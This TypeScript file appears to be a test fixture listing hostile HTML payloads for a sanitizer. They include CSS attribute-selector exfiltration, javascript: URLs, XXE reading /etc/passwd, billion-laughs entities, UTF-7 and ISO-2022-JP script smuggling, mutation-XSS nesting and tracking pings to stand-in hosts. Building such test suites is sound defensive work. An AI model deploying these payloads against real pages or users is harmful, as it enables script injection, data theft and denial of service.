import { htmlPlans, type HtmlRow } from './html-page.ts';

const ROWS: readonly HtmlRow[] = [
  [
    'css-url',
    'pictures in styles',
    ({ url, far }) => ({
      head: `<style>body{background:url(${url}.css)} p{list-style-image:url("${far}")}</style>`,
      body: `<p style="background:url(${url});cursor:url(${far}),auto;content:url(${url})">x</p>`,
    }),
  ],
  [
    'css-import',
    'a style sheet that imports others',
    ({ url, far }) => ({
      head: `<style>@import "${url}.css"; @import url(${far}) layer(x);</style>`,
    }),
  ],
  [
    'css-font',
    'a font from elsewhere',
    ({ url, far }) => ({
      head: `<style>@font-face{font-family:f;src:url(${url}.woff2),url(${far})} p{font-family:f}</style>`,
    }),
  ],
  [
    'css-image-set',
    'a picture by resolution',
    ({ url }) => ({
      head: `<style>p{background:image-set("${url}" 1x);-webkit-mask:url(${url});filter:url(${url}#f);shape-outside:url(${url})}</style>`,
    }),
  ],
  [
    'css-script',
    'scripts in styles',
    ({ js }) => ({
      head: `<style>p{width:expression(${js});-moz-binding:url("data:text/xml,${js}");behavior:url(x.htc)}</style>`,
      body: `<p style="background:url(javascript:${js})">x</p>`,
    }),
  ],
  [
    'css-exfiltration',
    'telling letter by letter what is in a field',
    ({ url }) => ({
      head: `<style>input[value^=a]{background:url(${url}/a)} #x:has(input){background:url(${url}/b)} @media print{body{background:url(${url}/c)}}</style>`,
    }),
  ],
  [
    'style-sheet-links',
    'style sheets by link, header and processing instruction',
    ({ url, far }) => ({
      prolog: `<?xml version="1.0"?><?xml-stylesheet href="${url}.xsl" type="text/xsl"?>`,
      head: `<link rel=stylesheet href="${url}.css"><link rel="alternate stylesheet" href="${far}" title=x><meta http-equiv=Link content="<${url}>; rel=stylesheet">`,
    }),
  ],
  [
    'meta-refresh',
    'going elsewhere by itself',
    ({ url, js }) => ({
      head: `<meta http-equiv=refresh content="0; url=${url}"><meta http-equiv="REFRESH" content="0;url=javascript:${js}">`,
    }),
  ],
  [
    'meta-policy',
    'a policy, a cookie and a charset of its own',
    ({ url }) => ({
      head: `<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ${url}"><meta http-equiv=Set-Cookie content="pwned=1"><meta http-equiv=x-dns-prefetch-control content=on>`,
    }),
  ],
  [
    'base',
    'an address that all others are below',
    ({ url }) => ({
      head: `<base href="${url}/" target=_top>`,
      body: '<img src=a.png><a href=b>More</a><form action=c></form>',
    }),
  ],
  [
    'frames',
    'frames of every kind',
    ({ url, js }) => ({
      body: `<iframe src="${url}"></iframe><iframe srcdoc="<script>${js}</script>"></iframe><iframe src="javascript:${js}"></iframe><iframe sandbox="allow-scripts allow-top-navigation" src="data:text/html,<script>${js}</script>"></iframe><fencedframe src="${url}"></fencedframe>`,
    }),
  ],
  [
    'frameset',
    'frames instead of a body',
    ({ url }) => ({
      head: `<frameset><frame src="${url}"></frameset>`,
    }),
  ],
  [
    'plugins',
    'objects, embeds and applets',
    ({ url, js }) => ({
      body: `<object data="${url}"><param name=src value="${url}"></object><embed src="${url}.swf"><applet code="${url}" archive="${url}.jar"></applet><object type="text/html" data="javascript:${js}"></object><bgsound src="${url}">`,
    }),
  ],
  [
    'forms',
    'forms that send themselves',
    ({ url, js }) => ({
      body: `<form action="${url}" method=post id=f><input name=q value=x autofocus onfocus="this.form.submit()"><button formaction="javascript:${js}">Send</button><input type=image src="${url}.png" formaction="${url}"></form><isindex action="${url}" prompt=x>`,
    }),
  ],
  [
    'pictures',
    'pictures in every notation',
    ({ url, far }) => ({
      body: `<img src="${url}.png" srcset="${url}@2x.png 2x, ${far} 3x" loading=eager fetchpriority=high><picture><source srcset="${far}"><img src="//${far.slice(8)}"></picture><img src="\\\\\\\\tracker.example\\\\share\\\\x.png"><img lowsrc="${url}" dynsrc="${url}"><table background="${url}"><tr><td background="${url}">x</table>`,
    }),
  ],
  [
    'media',
    'video, audio, subtitles and posters',
    ({ url }) => ({
      body: `<video autoplay muted src="${url}.mp4" poster="${url}.jpg"><track default src="${url}.vtt"></video><audio autoplay src="${url}.mp3"></audio>`,
    }),
  ],
  [
    'prefetch',
    'loading ahead',
    ({ url, far }) => ({
      head: [
        'prefetch',
        'preload',
        'modulepreload',
        'prerender',
        'dns-prefetch',
        'preconnect',
        'manifest',
        'icon',
        'search',
        'pingback',
        'compression-dictionary',
      ]
        .map(
          (rel) =>
            `<link rel=${rel} href="${rel === 'preconnect' || rel === 'dns-prefetch' ? far : url}" as=script>`,
        )
        .join(''),
    }),
  ],
  [
    'speculation',
    'speculation rules and import maps',
    ({ url }) => ({
      head: `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${url}"]}],"prerender":[{"urls":["${url}"]}]}</script><script type=importmap>{"imports":{"svelte":"${url}.js"}}</script>`,
    }),
  ],
  [
    'ping',
    'links that tell of a click',
    ({ url, far }) => ({
      body: `<p>The <a href="${far}" ping="${url}" attributionsrc="${url}">whole report of the commission</a> was published by the harbour in the morning.</p><map name=m><area href="${far}" ping="${url}" shape=default></map>`,
    }),
    ['The whole report of the commission was published by the harbour in the morning.'],
  ],
  [
    'entities',
    'entities that multiply',
    () => ({
      prolog: `<!DOCTYPE html [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY x SYSTEM "file:///etc/passwd">]>`,
      body: '<p>&c;&x;</p>',
    }),
  ],
  [
    'external-dtd',
    'a document type from elsewhere',
    ({ url }) => ({
      prolog: `<!DOCTYPE html PUBLIC "-//X//EN" "${url}.dtd">`,
    }),
  ],
  [
    'utf7',
    'a script in UTF-7',
    () => ({
      head: '<meta http-equiv=content-type content="text/html; charset=utf-7">',
      body: '<p>+ADw-script+AD4-alert(1)+ADw-/script+AD4- was the headline of the day.</p>',
    }),
    ['+ADw-script+AD4-alert(1)+ADw-/script+AD4- was the headline of the day.'],
  ],
  [
    'iso-2022',
    'a quotation mark hidden by ISO-2022-JP',
    ({ js }) => ({
      head: '<meta charset=iso-2022-jp>',
      body: `<p title="\u001b$B">x</p><img alt="\u001b(B" src=x onerror="${js}">`,
    }),
  ],
  [
    'huge-attribute',
    'an attribute of a megabyte',
    ({ js }) => ({
      body: `<p title="${'x'.repeat(1_000_000)}" onclick="${js}">x</p>`,
    }),
  ],
  [
    'many-attributes',
    'an element of ten thousand attributes',
    ({ js }) => ({
      body: `<p ${Array.from({ length: 10_000 }, (_, i) => `a${i}=1`).join(' ')} onclick="${js}">x</p>`,
    }),
  ],
  [
    'deep',
    'elements nested fifty thousand deep',
    () => ({
      body: `${'<div>'.repeat(50_000)}${'</div>'.repeat(50_000)}`,
    }),
  ],
  [
    'deep-mutation',
    'nesting that parsers cut off at different depths',
    ({ js }) => ({
      body: `${'<div>'.repeat(600)}<svg><style><!--</style><img title="--&gt;&lt;img src=x onerror=${js}&gt;"></svg>${'</div>'.repeat(600)}`,
    }),
  ],
];

export const HTML_LOADING = htmlPlans(ROWS);
